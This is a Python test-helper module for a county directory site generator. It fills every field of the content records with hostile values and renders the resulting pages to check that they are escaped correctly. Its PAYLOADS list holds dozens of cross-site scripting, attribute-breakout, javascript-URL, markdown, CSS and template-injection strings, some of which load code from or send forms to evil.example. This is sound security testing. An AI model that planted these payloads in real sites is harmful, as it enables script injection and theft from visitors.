"""Hostile values for every field of the contract, and sites made with them as if no check had seen them.

`everywhere` puts a value into each field of each record, past the model's own checks: pydantic's model_copy
does not validate. So a field that is new to the contract is filled too, without a word here.
"""

from __future__ import annotations

import datetime
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass, fields, is_dataclass, replace
from functools import cache
from pathlib import Path
from typing import Any, TypeVar

import jinja2
import pytest
from assets_of import assets_of, every_page_of
from golden import WORLD
from pydantic import ValidationError

from kle_site import data, documents, finding, guidance, look, pages, submission, tree
from kle_site.cache import Cache
from kle_site.county import CaseStudy, Written
from kle_site.directory import Directory
from kle_site.downloads import download
from kle_site.load import Content, load
from kle_site.look import Page
from kle_site.model import Photo, Record
from kle_site.pages.cards import parts
from kle_site.photos import Original

TODAY = datetime.date(2026, 11, 21)
MARK = "MARK"
"""Where a payload names the field that it stands in."""

PLAIN = "harmless words"

STORY = "CaseStudy.body"
"""The words of a case study, which are no field of a record."""


@dataclass(frozen=True, slots=True)
class Payload:
    """Hostile words, and harmless ones that a page should be shaped by in the same way."""

    name: str
    words: str
    harmless: str = PLAIN

    def at(self, field: str) -> str:
        """Return the words as they stand in a field."""
        return self.words.replace(MARK, field)


def _payloads(*lines: tuple[str, str] | tuple[str, str, str]) -> tuple[Payload, ...]:
    return tuple(Payload(*line) for line in lines)


PAYLOADS = _payloads(
    # Elements.
    ("script", "<script>alert('MARK')</script>"),
    ("script-elsewhere", "<ScRiPt\n src=https://evil.example/MARK.js></sCrIpT\t>"),
    ("script-unclosed", "<script>alert('MARK')//"),
    ("image", "<img src=x onerror=alert('MARK')>"),
    ("image-elsewhere", "<img src=https://evil.example/MARK.png>"),
    ("drawing", "<svg/onload=alert('MARK')><animate onbegin=alert('MARK') attributeName=x dur=1s>"),
    (
        "maths",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src onerror=alert('MARK')>\">",
    ),
    ("frame", "<iframe srcdoc=\"<script>parent.alert('MARK')</script>\"></iframe>"),
    ("object", "<object data=\"javascript:alert('MARK')\"></object><embed src=//evil.example/MARK>"),
    ("form", "<form action=https://evil.example/MARK><input autofocus onfocus=alert('MARK')>"),
    ("details", "<details open ontoggle=alert('MARK')><template><script>alert('MARK')</script></template>"),
    ("base", '<base href="https://evil.example/">'),
    ("refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/MARK">'),
    ("stylesheet", "<link rel=stylesheet href=https://evil.example/MARK.css>"),
    ("rest-as-text", "<plaintext>"),
    ("paragraphs", "<div>\n\n<script>alert('MARK')</script>\n\n</div>", f"{PLAIN}\n\n{PLAIN}\n\n{PLAIN}"),
    # Ways out of where a value stands.
    ("out-of-attribute", "\"><script>alert('MARK')</script>"),
    ("out-of-single-quotes", "'><script>alert('MARK')</script>"),
    ("attribute", "\" onmouseover=\"alert('MARK')\" autofocus onfocus=\"alert('MARK')"),
    ("attribute-single-quotes", "' onmouseover='alert(`MARK`)' x='"),
    ("attribute-unquoted", "x onmouseover=alert('MARK') tabindex=0 `onfocus=alert('MARK')"),
    ("out-of-title", "</title><script>alert('MARK')</script>"),
    ("out-of-style", "</style></script></textarea></noscript><script>alert('MARK')</script>"),
    ("out-of-body", "</a></h1></main></body></html><script>alert('MARK')</script>"),
    ("comment", "<!--"),
    ("comment-end", "--><script>alert('MARK')</script>"),
    (
        "section",
        "]]><script>alert('MARK')</script><![CDATA[<?xml-stylesheet href='//evil.example/MARK.xsl'?>",
    ),
    # Written otherwise.
    ("entities", "&lt;script&gt;alert('MARK')&lt;/script&gt;"),
    ("numeric-entities", "&#60;script&#62;alert('MARK')&#x3c;/script&#x3e;"),
    ("escapes", "\\u003cscript\\x3ealert('MARK') %3Cscript%3E +ADw-script+AD4- ＜script＞"),
    ("controls", "<scr\x00ipt>alert('MARK')</scr\x00ipt>\x01\x08\x0b\x0c\x1b\x7f\x85\ufffe"),
    # Addresses.
    ("javascript", "javascript:alert('MARK')"),
    ("javascript-capitals", "JaVaScRiPt:alert('MARK')"),
    ("javascript-entity", "JaVaScRiPt&colon;alert('MARK')"),
    ("javascript-number", "&#106;avascript:alert('MARK')"),
    ("javascript-tab", "java\tscript:alert('MARK')"),
    ("javascript-line", "java\nscript:alert('MARK')"),
    ("javascript-space", "\x01 javascript:alert('MARK')"),
    ("javascript-and-https", "javascript:https://evil.example/%0Aalert('MARK')"),
    ("data", "data:text/html,<script>alert('MARK')</script>"),
    ("vbscript", "vbscript:msgbox('MARK')"),
    ("elsewhere", "//evil.example/MARK"),
    ("elsewhere-backslash", "\\\\evil.example\\MARK"),
    ("a-bad-link", "https://evil.example/MARK?<script>"),
    ("a-good-link", "https://evil.example/MARK", "https://good.example/words"),
    ("mail-headers", "a@b.example?cc=evil@evil.example&body=MARK"),
    # A leader's Markdown.
    ("markdown-link", "[words](javascript:alert('MARK'))"),
    ("markdown-link-entity", "[words](JaVaScRiPt&colon;alert&lpar;'MARK'&rpar;)"),
    ("markdown-link-tab", "[words](<java&Tab;script:alert('MARK')>)"),
    ("markdown-link-data", "[words](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("markdown-link-elsewhere", "[words](//evil.example/MARK)"),
    (
        "markdown-link-title",
        "[words](https://evil.example/ 'x\" onfocus=\"alert()')",
        "[a](https://good.example/)",
    ),
    ("markdown-reference", "[words]\n\n[words]: javascript:alert('MARK')", f"{PLAIN}\n\n{PLAIN}"),
    ("markdown-angles", "<javascript:alert('MARK')> <https://evil.example/MARK>"),
    ("markdown-image", "![words](https://evil.example/MARK.png)", "![words](https://good.example/x.png)"),
    ("markdown-image-script", "![words](javascript:alert('MARK'))"),
    ("markdown-attributes", "words {: onmouseover=alert('MARK') }\n{ #main .skip onclick=alert('MARK') }"),
    # Style.
    ("style", "<style>@import url(https://evil.example/MARK.css);body{display:none}</style>"),
    ("style-attribute", '" style="background:url(https://evil.example/MARK.png);position:fixed;inset:0'),
    ("style-value", "expression(alert('MARK'));}*{background:url(javascript:alert('MARK'))}"),
    # Templates.
    ("jinja", "{{ 7*7 }}{{ site.office }}{{ here }}{{ cycler }}"),
    ("jinja-block", '{% include "pages/home.html" %}{% raw %}{# {% endblock %}'),
    ("jinja-token", "{{ organisation }} {{ organisation_short }}"),
    ("other-templates", "${7+7} #{7+7} <%= 7+7 %> [[7+7]] {0.format} %(site)s %s"),
    # Characters.
    ("override", "\u202eevil\u202dlive"),
    ("override-left-open", "Ann \u202e"),
    ("isolates", "\u2066\u2067\u2068evil"),
    ("isolate-end", "\u2069\u2069\u202eevil"),
    ("arabic", "مدرسة"),
    ("invisible", "A\u200b\u200d\ufeff\u2060n\u00adn\u2028\u2029"),
    ("emoji", "👩🏽‍🏫🏴󠁧󠁢󠁥󠁮󠁧󠁿" * 9),
    ("accents", "Z" + "\u0323\u0301\u0489" * 9),
    ("long-word", "MARK" + "w" * 5000),
)
FURTHEST = {
    *("script", "script-unclosed", "image-elsewhere", "drawing", "frame", "form", "base", "refresh"),
    *("stylesheet", "rest-as-text", "out-of-attribute", "out-of-single-quotes", "attribute-unquoted"),
    *("out-of-title", "comment", "numeric-entities", "controls", "javascript", "javascript-tab"),
    *("elsewhere-backslash", "mail-headers", "markdown-link-entity", "markdown-image"),
    *("markdown-attributes", "style-attribute", "jinja-block", "override-left-open", "isolate-end"),
    *("arabic", "invisible", "long-word"),
}
"""Names of payloads, of each family the one or two that get furthest: `make test-all` sends all."""

assert len({payload.name for payload in PAYLOADS}) == len(PAYLOADS)
assert {payload.name for payload in PAYLOADS} > FURTHEST


def sent(payload: Payload) -> Any:
    """Return a payload as a test's parameter, which is slow unless it is among the furthest."""
    return pytest.param(payload, id=payload.name, marks=[] if payload.name in FURTHEST else pytest.mark.slow)


# --- into the fields --------------------------------------------------------------------------------------

Value = Callable[[str, Any], Any]
"""A field such as `School.name` and what it holds → what it is to hold."""
Made = TypeVar("Made")


def everywhere(thing: Made, value: Value) -> Made:
    """Return records with every field's value passed through `value`. What is empty stays empty."""
    if isinstance(thing, Record):
        of = type(thing)
        copied = thing.model_copy(
            update={
                name: _within(getattr(thing, name), f"{of.__name__}.{name}", value)
                for name in of.model_fields
            }
        )
        # What the record had worked out from the values that it no longer has.
        for name in copied.__dict__.keys() - of.model_fields.keys():
            del copied.__dict__[name]
        return copied
    if is_dataclass(thing) and not isinstance(thing, type):
        held = {field.name: getattr(thing, field.name) for field in fields(thing)}
        records = {name: _records(one, value) for name, one in held.items()}
        if isinstance(thing, Written) and isinstance(thing.head, CaseStudy):
            records["body"] = value(STORY, thing.body)
        return replace(thing, **records)
    return thing


def _records(held: Any, value: Value) -> Any:
    if isinstance(held, tuple):
        return tuple(everywhere(one, value) for one in held)
    return everywhere(held, value)


def _within(held: Any, field: str, value: Value) -> Any:
    if isinstance(held, Record):
        return everywhere(held, value)
    if isinstance(held, tuple):
        return tuple(_within(one, field, value) for one in held)
    if isinstance(held, dict):
        return {value(f"{field} key", key): _within(one, field, value) for key, one in held.items()}
    return held if held is None else value(field, held)


def contract() -> set[str]:
    """Return every field of every record that holds a value and not further records: `School.name`.

    The words below a case study's head are one more: they come from anybody, as a portrait's do.
    """
    return {STORY} | {
        f"{record.__name__}.{name}"
        for record in _kinds(Record)
        for name, field in record.model_fields.items()
        if not any(kind.__name__ in repr(field.annotation) for kind in _kinds(Record))
    }


def any_words() -> set[str]:
    """Return the fields that hold words of any language, so that Arabic may stand there by right."""
    return {STORY} | {
        f"{record.__name__}.{name}"
        for record in _kinds(Record)
        for name in record.model_fields
        if any(_takes(record, name, words) for words in ("مدرسة", "مدرسة " * 80))
    }


def _takes(record: type[Record], name: str, words: str) -> bool:
    try:
        record.model_validate({name: words})
    except ValidationError as error:
        return all(detail["loc"][0] != name for detail in error.errors())
    return True


def _kinds(of: type[Record]) -> Iterator[type[Record]]:
    """Yield the records of content/: an annual submission stays out of it, and none of it reaches a page."""
    for kind in of.__subclasses__():
        if kind.__module__ != submission.__name__:
            yield kind
            yield from _kinds(kind)


def furnished(content: Content) -> Content:
    """Return a content folder's records in which every field of the contract holds something somewhere."""
    first, *rest = sorted(content.leaders, key=lambda leader: -len(leader.schools))
    photo = Photo(file="somebody.jpg", alt="Somebody at a desk")
    places = content.places.model_copy(
        update={
            "districts": tuple(
                district.model_copy(update={"valid_to": TODAY.replace(year=2030, day=1)})
                for district in content.places.districts
            )
        }
    )
    people = (first.model_copy(update={"photo": photo}), *rest)
    # By these they stand in lists, whatever their names become.
    leaders = tuple(leader.model_copy(update={"sort_as": leader.surname_first}) for leader in people)
    photos = {"somebody.jpg": Original("somebody.jpg", "0" * 64, "JPEG", 800, ())}
    return replace(content, leaders=leaders, places=places, photos=photos)


# --- into pages -------------------------------------------------------------------------------------------


class _Compiled(jinja2.BytecodeCache):
    """Templates that were compiled once: most of the time that a small site takes."""

    def __init__(self) -> None:
        self._kept: dict[str, bytes] = {}

    def load_bytecode(self, bucket: jinja2.bccache.Bucket) -> None:
        """Fill a bucket, if its template was compiled before."""
        if bucket.key in self._kept:
            bucket.bytecode_from_string(self._kept[bucket.key])

    def dump_bytecode(self, bucket: jinja2.bccache.Bucket) -> None:
        """Keep what was compiled."""
        self._kept[bucket.key] = bucket.bytecode_to_string()


_COMPILED = _Compiled()


def rendered(content: Content, spoil: Callable[[jinja2.Environment], object] | None = None) -> list[Page]:
    """Return every page of a site but the protocols', made as a build makes them.

    `spoil` may break the environment first, as no release should, to see whether a test would notice.
    """
    env = look.environment(_site(content))
    env.bytecode_cache = _COMPILED
    if spoil:
        env.bytecode_cache = None
        spoil(env)
    directory = Directory(content, TODAY)
    return list(every_page_of(directory, env))


def directory_page(content: Content) -> Page:
    """Return the directory's page alone, made as a build makes it: a crowd's other pages take long."""
    directory = Directory(content, TODAY)
    made = every_page_of(directory, look.environment(_site(content)))
    return next(page for page in made if page.address == "/directory/")


def lists_of(content: Content, out: Path) -> Path:
    """Write the lists of leaders to a folder, with the parts and assets that they need, and return it."""
    directory = Directory(content, TODAY)
    env = look.environment(_site(content))
    beside = parts(directory, env)
    written(list(pages.lists.pages(directory, env, beside)), out)
    # The assets are another county's, but for whom the search finds.
    own = {_assets()[name][0]: body for name, body in finding.files(directory).items()}
    for path, body in (dict(beside.files) | own).items():
        (out / path[1:]).write_bytes(body)
    return out


def protocols(content: Content) -> list[Page]:
    """Return the protocols' pages of a site, made as a build makes them."""
    return list(guidance.pages(content.guidance, _site(content), Cache(None)))


def files(content: Content) -> dict[str, bytes]:
    """Return what programs read of a site, by its path: all that is neither a page nor an asset."""
    directory, site = Directory(content, TODAY), _site(content)
    addresses = [entry.address for entry in directory.with_page]
    return dict(data.files(directory, site, download(directory, site.base_url), addresses))


def _site(content: Content) -> look.SiteView:
    addresses = {name: address for name, (address, _) in _assets().items()}
    # A page says of the record's files only how large they are.
    papers = {f"{documents.STEM}.{ending}": b"words" for ending in ("odt", "docx", "pdf")}
    return look.site_view(content.site, TODAY, addresses, None, papers if content.support.record else {})


_PHOTO = re.compile(r"\bphotos/[\w.-]+")


@cache
def _assets() -> dict[str, tuple[str, bytes]]:
    """Return the assets of the miniature county as it is: what stands in hostile pages is found by none."""
    content = load(WORLD).content

    assert content

    return assets_of(content, TODAY)


def written(found: list[Page], out: Path) -> Path:
    """Write pages and assets to a folder as a build does, and return it."""
    with tree.staging(out) as staged:
        for address, body in _assets().values():
            staged.write(address[1:], body)
        for page in found:
            staged.write(page.file, page.body.encode())
        # Nobody took these photos: what is asked for is there, and is no picture.
        for photo in {name for page in found for name in _PHOTO.findall(page.body)}:
            staged.write(photo, b"")
    return out
